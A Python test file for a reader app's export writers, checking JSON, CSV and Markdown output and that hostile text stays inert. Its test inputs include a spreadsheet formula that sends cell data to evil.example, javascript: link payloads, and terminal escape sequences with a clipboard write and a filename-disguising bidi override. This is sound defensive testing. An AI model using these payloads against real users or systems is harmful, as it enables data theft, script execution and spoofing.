"""The export writers, each read back the way its users read it: JSON parsed, CSV through the
csv module, Markdown through a CommonMark parser. Hostile text must stay data in every one."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from reader import export
from reader.model import Article, Provider
from reader.serialize import article_to_dict

DAY = date(2026, 11, 27)


def stored(title: str = "A story", **fields: object) -> str:
    """A record as the parse cache holds it: article_to_dict's shape, as JSON text."""
    fields.setdefault("web_url", "https://news.example.com/a-story")
    article = Article(title=title, source="/records/a.md", **fields)  # type: ignore[arg-type]
    return json.dumps(article_to_dict(article), ensure_ascii=False)


FULL = stored(
    "Robots learn to fold laundry",
    excerpt="A two-armed robot folds towels.",
    published=datetime(2021, 3, 2, 14, 5, tzinfo=UTC),
    provider=Provider("Example News", "example.com"),
    topics=("Robotics", "AI"),
    heat=84,
    quality=74,
    type="article",
    category="news",
)
BARE = stored("Bare", web_url=None)


def written(fmt: str, records: list[str], query: str = "") -> tuple[str, int]:
    out = io.StringIO()
    count = export.write(fmt, records, out, query=query, day=DAY)
    return out.getvalue(), count


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def has_raw_control(text: str) -> bool:
    """A C0/C1 control other than a line end, or a bidi control: what a terminal acts on."""
    return any(
        (unicodedata.category(ch) == "Cc" and ch not in "\r\n")
        or unicodedata.bidirectional(ch)
        in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        for ch in text
    )


def links(markdown: str) -> list[tuple[str, str]]:
    """Every link of a Markdown text as CommonMark reads it: (href, the text shown)."""
    found = []
    for block in MarkdownIt("commonmark").parse(markdown):
        children = block.children or []
        for i, token in enumerate(children):
            if token.type == "link_open":
                shown = ""
                for inner in children[i + 1 :]:
                    if inner.type == "link_close":
                        break
                    shown += inner.content
                found.append((token.attrs["href"], shown))
    return found


def plain_text(markdown: str) -> list[str]:
    """The text of each inline run, as a Markdown reader shows it."""
    return [
        "".join(child.content for child in block.children or [])
        for block in MarkdownIt("commonmark").parse(markdown)
        if block.type == "inline"
    ]


# --- JSON and JSON Lines -------------------------------------------------------------------------


def test_json_is_one_array_of_the_records_in_order() -> None:
    text, count = written("json", [FULL, BARE])
    assert count == 2
    assert json.loads(text) == [json.loads(FULL), json.loads(BARE)]
    assert json.loads(text)[0]["provider"] == {"name": "Example News", "domain": "example.com"}


def test_json_of_nothing_is_an_empty_array() -> None:
    assert written("json", []) == ("[]\n", 0)


def test_jsonl_is_one_record_a_line_in_order() -> None:
    text, count = written("jsonl", [FULL, BARE])
    assert count == 2
    assert [json.loads(line) for line in text.splitlines()] == [json.loads(FULL), json.loads(BARE)]


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_has_a_header_and_the_useful_columns() -> None:
    text, count = written("csv", [FULL, BARE])
    header, full, bare = csv_rows(text)
    assert count == 2
    assert header == list(export.CSV_COLUMNS)
    row = dict(zip(header, full, strict=True))
    assert row == {
        "title": "Robots learn to fold laundry",
        "url": "https://news.example.com/a-story",
        "published": "2021-03-02T14:05:00+00:00",
        "provider": "Example News",
        "topics": "Robotics; AI",
        "excerpt": "A two-armed robot folds towels.",
        "heat": "84",
        "quality": "74",
        "type": "article",
        "category": "news",
    }
    assert dict(zip(header, bare, strict=True)) == dict.fromkeys(header, "") | {"title": "Bare"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\r="])
def test_csv_cells_never_start_a_formula(start: str) -> None:
    """OWASP's CSV injection: a cell starting with = + - @ (or tab, CR) is code to a
    spreadsheet. Such cells get a leading apostrophe; numbers stay numbers."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    record = stored(
        formula, excerpt=formula, provider=Provider(formula), topics=(formula,), heat=-5
    )
    (row,) = csv_rows(written("csv", [record])[0])[1:]
    cells = dict(zip(export.CSV_COLUMNS, row, strict=True))
    for column in ("title", "provider", "topics", "excerpt"):
        assert cells[column].startswith("'"), column
        assert "HYPERLINK" in cells[column]
    assert cells["heat"] == "-5"


def test_csv_leaves_ordinary_text_alone() -> None:
    (row,) = csv_rows(written("csv", [stored("Rates fall - again; 3 = three?")])[0])[1:]
    assert row[0] == "Rates fall - again; 3 = three?"


# --- Markdown ------------------------------------------------------------------------------------


def test_markdown_is_a_reading_list_with_links() -> None:
    text, count = written("md", [FULL, BARE], query="topic:Robotics")
    assert count == 2
    assert text.splitlines() == [
        "# Reading list: topic:Robotics (2026-11-27)",
        "",
        "- [Robots learn to fold laundry](https://news.example.com/a-story) — Example News, "
        "2021-03-02",
        "",
        "  A two-armed robot folds towels.",
        "",
        "- Bare",
    ]
    assert links(text) == [("https://news.example.com/a-story", "Robots learn to fold laundry")]


def test_markdown_without_a_query_says_only_the_day() -> None:
    assert written("md", [])[0] == "# Reading list (2026-11-27)\n"


@pytest.mark.parametrize(
    "title",
    [
        "Evil](https://evil.example/) [click",
        "[Fake](javascript:alert(1))",
        "Stars *bold* _em_ `code` <b>html</b> &amp; ~~gone~~ $x$ \\ backslash",
        "# Not a heading",
        "1. Not a list",
    ],
)
def test_markdown_titles_cannot_break_their_link(title: str) -> None:
    """Whatever a title holds, the item has one link, to the record's URL, showing the title."""
    text, _ = written("md", [stored(title, web_url="https://news.example.com/x_(y)")])
    assert links(text) == [("https://news.example.com/x_%28y%29", title)]


def test_markdown_only_links_web_urls() -> None:
    text, _ = written("md", [stored("Click me", web_url="javascript:alert(1)")])
    assert links(text) == []
    assert "- Click me" in text.splitlines()


@pytest.mark.parametrize("excerpt", ["# A heading?", "> a quote", "- a list", "2. a list", "==="])
def test_markdown_excerpts_stay_paragraphs(excerpt: str) -> None:
    text, _ = written("md", [stored("Title", excerpt=excerpt)])
    blocks = [token.type for token in MarkdownIt("commonmark").parse(text)]
    assert blocks.count("heading_open") == 1  # the list's own heading
    assert "blockquote_open" not in blocks and "ordered_list_open" not in blocks
    assert blocks.count("bullet_list_open") == 1
    assert excerpt in plain_text(text)


# --- hostile text --------------------------------------------------------------------------------

HOSTILE = "Pwned \x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b[31mred\x9b\u202e txt.exe"


@pytest.mark.parametrize("fmt", ["csv", "md"])
def test_control_characters_never_reach_the_file(fmt: str) -> None:
    """Text formats are read in terminals (cat, less): no ESC, BEL, C1 or bidi control."""
    record = stored(
        HOSTILE, excerpt=HOSTILE, provider=Provider(HOSTILE), topics=(HOSTILE,), type=HOSTILE
    )
    text, _ = written(fmt, [record], query=HOSTILE)
    assert not has_raw_control(text)
    assert "\u241b" in text and "\u2407" in text  # ESC and BEL shown, not acted on


def test_line_breaks_in_a_title_stay_on_its_line() -> None:
    text, _ = written("md", [stored("One\nTwo\r\n- three")])
    assert links(text) == [("https://news.example.com/a-story", "One Two - three")]
    (row,) = csv_rows(written("csv", [stored("One\nTwo")])[0])[1:]
    assert row[0] == "One Two"


# --- files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("a.md", "md"), ("A.CSV", "csv"), ("x.json", "json"), ("x.jsonl", "jsonl"), ("x.txt", None)],
)
def test_format_for_reads_the_extension(name: str, fmt: str | None) -> None:
    assert export.format_for(name) == fmt
    assert export.format_for(f"~/{name}.d/list") is None


def test_export_file_never_replaces_unless_told(tmp_path: Path) -> None:
    path = tmp_path / "list.jsonl"
    path.write_text("keep me")
    with pytest.raises(FileExistsError):
        export.export_file(path, "jsonl", [FULL], query="", day=DAY, replace=False)
    assert path.read_text() == "keep me"
    assert export.export_file(path, "jsonl", [FULL], query="", day=DAY, replace=True) == 1
    assert json.loads(path.read_text()) == json.loads(FULL)


def test_write_errors_name_the_path_and_the_reason(tmp_path: Path) -> None:
    missing = tmp_path / "nope" / "list.md"
    assert export.write_error(missing, FileNotFoundError(2, "No such file")) == (
        f"Cannot write {missing}: the folder {tmp_path / 'nope'} does not exist"
    )
    assert export.write_error(tmp_path, IsADirectoryError(21, "Is a directory")) == (
        f"Cannot write {tmp_path}: that is a folder"
    )
    denied = Path("/root/list.md")
    assert export.write_error(denied, PermissionError(13, "Permission denied")) == (
        f"Cannot write {denied}: permission denied"
    )
